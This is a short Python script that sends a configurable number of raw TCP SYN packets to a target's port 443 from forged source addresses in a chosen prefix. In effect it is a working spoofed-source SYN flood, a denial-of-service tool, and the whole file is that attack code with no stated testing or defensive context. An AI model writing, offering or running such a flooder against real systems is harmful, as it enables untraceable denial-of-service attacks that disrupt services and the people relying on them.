"""Sends COUNT SYNs to ADDRESS, port 443, from addresses of PREFIX (as 10.77.1) that nobody has."""

import random
import socket
import struct
import sys


def checksum(data):
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def main():
    address, prefix, count = sys.argv[1], sys.argv[2], int(sys.argv[3])
    raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    target = socket.inet_aton(address)
    for number in range(count):
        source = socket.inet_aton(f"{prefix}.{100 + number % 100}")
        tcp = struct.pack("!HHIIBBHHH", 1024 + number, 443, random.getrandbits(32), 0, 5 << 4, 2, 64240, 0, 0)
        pseudo = source + target + struct.pack("!BBH", 0, socket.IPPROTO_TCP, len(tcp))
        tcp = tcp[:16] + struct.pack("!H", checksum(pseudo + tcp)) + tcp[18:]
        # The kernel fills in length, identification and checksum of the IP header.
        ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 0, 0, 0, 64, socket.IPPROTO_TCP, 0, source, target)
        raw.sendto(ip + tcp, (address, 0))


main()
